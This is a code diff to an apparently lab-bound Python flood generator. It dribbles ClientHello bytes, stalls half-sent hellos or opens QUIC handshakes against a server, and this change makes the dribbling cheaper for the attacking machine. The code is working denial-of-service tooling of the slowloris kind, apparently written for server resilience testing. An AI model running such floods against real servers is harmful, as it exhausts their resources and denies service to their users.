@@ -17,7 +17,9 @@ At most `--connections` are open at a time; a closed one is replaced, at most `-
 ones a second and at most MAX_OPENED in all. With `--sources N` connections take turns among N
 source addresses of the attacker namespace (aura_lab.flood.attacker_namespace). Prints one
 JSON line: connections opened, closed by the server, failed to open, QUIC handshakes finished,
-bytes sent, seconds.
+bytes sent, seconds, and the CPU seconds the flood itself used. Dribbled hellos are written by
+one loop, every connection's next piece each `--interval`, so that the generator's own cost
+(it shares the machine with the server) stays a fraction of what it makes the server do.
 """
 
 from __future__ import annotations
@@ -59,6 +61,7 @@ class Report:
     handshakes: int = 0
     bytes_sent: int = 0
     seconds: float = 0.0
+    cpu_seconds: float = 0.0
 
 
 def client_hello(padding_to: int = 0) -> bytes:
@@ -107,6 +110,7 @@ class Flood:
         self.records_per_write = max(1, args.records_per_write)
         self.open = 0
         self.one_port: QuicSocket | None = None
+        self.dribbling: dict[asyncio.StreamWriter, int] = {}  # the next offset to send
 
     def source(self) -> Iterator[str | None]:
         while True:
@@ -114,9 +118,12 @@ class Flood:
 
     async def run(self) -> Report:
         loop = asyncio.get_running_loop()
-        started = loop.time()
+        started, cpu = loop.time(), time.process_time()
         deadline = started + self.seconds
         tasks: set[asyncio.Task[None]] = set()
+        if self.kind == "tcp-dribble":
+            ticker = loop.create_task(self.dribble())
+            tasks.add(ticker)
         sources = self.source()
         while loop.time() < deadline and self.report.opened + self.report.failed < MAX_OPENED:
             if self.open < self.connections:
@@ -131,6 +138,7 @@ class Flood:
         if self.one_port is not None:
             self.one_port.close()
         self.report.seconds = round(loop.time() - started, 2)
+        self.report.cpu_seconds = round(time.process_time() - cpu, 2)
         return self.report
 
     async def connection(self, source: str | None, deadline: float) -> None:
@@ -155,17 +163,7 @@ class Flood:
         self.report.opened += 1
         try:
             if self.kind == "tcp-dribble":
-                step = self.records_per_write
-                for offset in range(0, len(self.hello), step):
-                    if loop.time() >= deadline:
-                        return
-                    piece = self.hello[offset : offset + step]
-                    self.send(writer, b"".join(record(piece[i : i + 1])
-                                               for i in range(len(piece))))
-                    await writer.drain()
-                    if reader.at_eof():
-                        break
-                    await asyncio.sleep(self.interval)
+                self.dribbling[writer] = 0
             else:
                 whole = record(self.hello)
                 self.send(writer, whole[: len(whole) // 2] if self.kind == "tcp-stall" else whole)
@@ -178,7 +176,25 @@ class Flood:
         except TimeoutError:
             pass
         finally:
+            self.dribbling.pop(writer, None)
             writer.transport.abort()
+
+    async def dribble(self) -> None:
+        """Every `interval`, the next `records_per_write` 1-byte records to each connection."""
+        step = self.records_per_write
+        pieces = [b"".join(record(self.hello[i : i + 1])
+                           for i in range(offset, min(offset + step, len(self.hello))))
+                  for offset in range(0, len(self.hello), step)]
+        while True:
+            for writer, index in list(self.dribbling.items()):
+                if index == len(pieces) or writer.is_closing():
+                    del self.dribbling[writer]
+                    continue
+                if writer.transport.get_write_buffer_size():
+                    continue  # the server does not read; wait as `drain` would
+                self.send(writer, pieces[index])
+                self.dribbling[writer] = index + 1
+            await asyncio.sleep(self.interval)
 
     def send(self, writer: asyncio.StreamWriter, data: bytes) -> None:
         writer.write(data)
